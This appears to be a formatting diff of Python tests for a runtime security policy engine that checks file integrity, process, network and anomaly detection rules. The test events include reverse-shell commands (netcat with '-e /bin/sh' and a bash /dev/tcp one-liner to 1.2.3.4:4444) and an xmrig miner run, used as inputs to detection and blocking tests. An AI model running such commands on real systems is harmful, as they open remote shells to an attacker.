@@ -29,13 +29,17 @@ HEADER = "apiVersion: security.qualys.com/v1\nkind: TracingPolicy\nmetadata:\n  
 
 
 def policy(spec: str) -> Policy:
-    return merge_docs(parse_policy_text(HEADER + "spec:\n" + textwrap.indent(
-        textwrap.dedent(spec), "  "), "test.yaml"))
+    return merge_docs(
+        parse_policy_text(
+            HEADER + "spec:\n" + textwrap.indent(textwrap.dedent(spec), "  "), "test.yaml"
+        )
+    )
 
 
 def ev(kind: str, syscall: str, **kw: object) -> SyscallEvent:
-    base: dict[str, object] = dict(timestamp=100.0, pid=42, tid=42, ppid=1,
-                                   exe="/usr/bin/python3.11")
+    base: dict[str, object] = dict(
+        timestamp=100.0, pid=42, tid=42, ppid=1, exe="/usr/bin/python3.11"
+    )
     base.update(kw)
     return SyscallEvent(kind=kind, syscall=syscall, **base)  # type: ignore[arg-type]
 
@@ -65,7 +69,8 @@ def test_fim_open_and_write() -> None:
     engine = Engine(policy(FIM))
     read = engine.evaluate(open_ev("/etc/passwd", ACCESS_READ))
     assert [(e.rule, e.extra["event"], e.severity) for e in read.events] == [
-        ("fim:/etc/passwd", "open", "critical")]
+        ("fim:/etc/passwd", "open", "critical")
+    ]
     write = engine.evaluate(open_ev("/etc/passwd", ACCESS_WRITE))
     # two rules match; one event: the strongest (critical /etc/passwd over high /etc)
     assert [(e.rule, e.extra["event"]) for e in write.events] == [("fim:/etc/passwd", "write")]
@@ -77,24 +82,28 @@ def test_fim_recursive_and_children() -> None:
     engine = Engine(policy(FIM))
     deep = engine.evaluate(open_ev("/etc/ssl/certs/x.pem", ACCESS_CREATE))
     assert [e.rule for e in deep.events] == ["fim:/etc"]
-    assert engine.evaluate(open_ev("/etc/ssl/certs/x.pem", ACCESS_READ)) .events == ()
+    assert engine.evaluate(open_ev("/etc/ssl/certs/x.pem", ACCESS_READ)).events == ()
     assert engine.evaluate(open_ev("/etcetera/x", ACCESS_WRITE)).events == ()
     # non-recursive directory: direct children only
     assert [e.rule for e in engine.evaluate(open_ev("/srv/app/a.py", ACCESS_WRITE)).events] == [
-        "fim:/srv/app"]
+        "fim:/srv/app"
+    ]
     assert engine.evaluate(open_ev("/srv/app/sub/a.py", ACCESS_WRITE)).events == ()
 
 
 def test_fim_unlink_rename_chmod_chown_and_globs() -> None:
     engine = Engine(policy(FIM))
-    assert engine.evaluate(ev(KIND_UNLINK, "unlinkat", path="/etc/hosts")).events[0].extra[
-        "event"] == "unlink"
+    assert (
+        engine.evaluate(ev(KIND_UNLINK, "unlinkat", path="/etc/hosts")).events[0].extra["event"]
+        == "unlink"
+    )
     renamed = engine.evaluate(ev(KIND_RENAME, "rename", path="/tmp/x", path2="/etc/passwd"))
     assert [(e.path, e.extra["event"]) for e in renamed.events] == [("/etc/passwd", "write")]
     assert engine.evaluate(ev(KIND_CHMOD, "fchmodat", path="/etc/sudoers", mode=0o777)).events
     assert engine.evaluate(ev(KIND_CHOWN, "chown", path="/etc/shadow", uid=0)).events
     assert engine.evaluate(ev(KIND_CHMOD, "chmod", path="/tmp/run.sh")).events[0].rule == (
-        "fim:/tmp/*.sh")
+        "fim:/tmp/*.sh"
+    )
     assert engine.evaluate(ev(KIND_CHMOD, "chmod", path="/tmp/run.py")).events == ()
     # /srv/app watches writes only
     assert engine.evaluate(ev(KIND_UNLINK, "unlink", path="/srv/app/a.py")).events == ()
@@ -135,8 +144,9 @@ def test_process_by_name_block_and_patterns() -> None:
     nc = engine.evaluate(exec_ev("/usr/bin/nc", "-e", "/bin/sh", "1.2.3.4", "4444"))
     assert nc.block and nc.events[0].action == "block"
     assert nc.events[0].args is None  # captureArgs false
-    shell = engine.evaluate(exec_ev("sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
-                                    path="/bin/sh"))
+    shell = engine.evaluate(
+        exec_ev("sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", path="/bin/sh")
+    )
     assert [e.rule for e in shell.events] == ["process:sh"] and not shell.block
     assert engine.evaluate(exec_ev("/bin/sh", "-c", "ls")).events == ()
     assert engine.evaluate(exec_ev("/tmp/xmrig", "--donate-level", "1")).block
@@ -228,8 +238,9 @@ networkMonitoring:
 
 
 def connect(ip: str, port: int, family: str = "inet", kind: str = KIND_CONNECT) -> SyscallEvent:
-    return ev(kind, "connect" if kind == KIND_CONNECT else "sendto", family=family, ip=ip,
-              port=port)
+    return ev(
+        kind, "connect" if kind == KIND_CONNECT else "sendto", family=family, ip=ip, port=port
+    )
 
 
 def test_network_allowlist_and_blocked_ports() -> None:
@@ -239,12 +250,14 @@ def test_network_allowlist_and_blocked_ports() -> None:
     assert engine.evaluate(connect("fd00::1", 443, "inet6")).events == ()
     out = engine.evaluate(connect("93.184.216.34", 443))
     assert [(e.rule, e.action, e.ip, e.port) for e in out.events] == [
-        ("network:outside-allowlist", "log", "93.184.216.34", 443)]
+        ("network:outside-allowlist", "log", "93.184.216.34", 443)
+    ]
     assert out.events[0].subject() == "93.184.216.34:443"
     blocked = engine.evaluate(connect("10.0.0.5", 22))  # blocked even inside the allowlist
     assert blocked.block and blocked.events[0].rule == "network:blocked-port"
-    assert engine.evaluate(ev(KIND_CONNECT, "connect", family="unix", path="/run/x.sock")).events \
-        == ()
+    assert (
+        engine.evaluate(ev(KIND_CONNECT, "connect", family="unix", path="/run/x.sock")).events == ()
+    )
     # UDP destinations only when the policy asks for them
     assert engine.evaluate(connect("8.8.8.8", 53, kind=KIND_SENDTO)).events == ()
     udp = Engine(policy(NET + "    udp: true\n"))
@@ -256,11 +269,16 @@ def test_network_allowlist_and_blocked_ports() -> None:
 
 
 def test_syscall_filtering_and_whitelist() -> None:
-    engine = Engine(policy("syscallFiltering:\n  tracedSyscalls: [execve, ptrace, mount]\n"
-                           "  severity: high\n  action: alert\n"))
+    engine = Engine(
+        policy(
+            "syscallFiltering:\n  tracedSyscalls: [execve, ptrace, mount]\n"
+            "  severity: high\n  action: alert\n"
+        )
+    )
     hit = engine.evaluate(ev(KIND_OTHER, "ptrace", args=(16, 99)))
     assert [(e.category, e.rule, e.severity) for e in hit.events] == [
-        ("syscall", "syscall:ptrace", "high")]
+        ("syscall", "syscall:ptrace", "high")
+    ]
     assert engine.evaluate(ev(KIND_OTHER, "getpid")).events == ()  # not traced
     assert engine.evaluate(exec_ev("/bin/ls")).events == ()  # decoded: other rules' business
     whitelisted = Engine(resolve_overrides(engine.policy, "execve,mount"))
@@ -283,7 +301,8 @@ def test_requirements_of_the_bundled_modes() -> None:
     assert not minimal.process_only and not minimal.open_needs_read
     balanced = Engine(resolve_policy({"MONITORING_MODE": "balanced"})).requirements()
     assert {"openat", "unlinkat", "fchmodat", "renameat2", "execve", "connect"} <= (
-        balanced.syscalls)
+        balanced.syscalls
+    )
     assert not balanced.open_needs_read  # FIM on writes only: read-only opens never stop
     aggressive = Engine(load_policies([policies_dir() / "tracing-policy-schema.yaml"]))
     assert aggressive.requirements().open_needs_read
@@ -310,8 +329,11 @@ anomalyDetection:
 def test_anomaly_learns_then_scores() -> None:
     now = [0.0]
     engine = Engine(policy(ANOMALY), clock=lambda: now[0])
-    learned = [exec_ev("/usr/bin/python3"), connect("10.0.0.1", 5432),
-               open_ev("/srv/data/a.log", ACCESS_WRITE)]
+    learned = [
+        exec_ev("/usr/bin/python3"),
+        connect("10.0.0.1", 5432),
+        open_ev("/srv/data/a.log", ACCESS_WRITE),
+    ]
     for event in learned:
         assert engine.evaluate(event).events == ()  # learning
     now[0] = 61.0  # the window is over
@@ -322,19 +344,21 @@ def test_anomaly_learns_then_scores() -> None:
     # ... repeating the same novelty does not add up ...
     assert engine.evaluate(exec_ev("/tmp/dropper", pid=7)).events == ()
     # ... but a new destination from the same process does: 0.9 >= 0.7
-    alert = engine.evaluate(ev(KIND_CONNECT, "connect", pid=7, family="inet", ip="6.6.6.6",
-                               port=4444)).events
+    alert = engine.evaluate(
+        ev(KIND_CONNECT, "connect", pid=7, family="inet", ip="6.6.6.6", port=4444)
+    ).events
     assert [e.category for e in alert] == ["anomaly"]
     assert alert[0].score == pytest.approx(0.9)
-    assert set(alert[0].extra["novelties"]) == {"executable=/tmp/dropper",
-                                               "destination=6.6.6.6:4444"}
+    assert set(alert[0].extra["novelties"]) == {
+        "executable=/tmp/dropper",
+        "destination=6.6.6.6:4444",
+    }
     # another process with a single novelty stays quiet
     assert engine.evaluate(open_ev("/var/tmp/x", ACCESS_WRITE)).events == ()
 
 
 def test_anomaly_learning_ends_after_an_event_count() -> None:
-    engine = Engine(policy(ANOMALY.replace("1000", "2").replace("0.7", "0.3")),
-                    clock=lambda: 0.0)
+    engine = Engine(policy(ANOMALY.replace("1000", "2").replace("0.7", "0.3")), clock=lambda: 0.0)
     engine.evaluate(exec_ev("/a"))
     engine.evaluate(exec_ev("/b"))
     assert engine.evaluate(exec_ev("/b")).events == ()
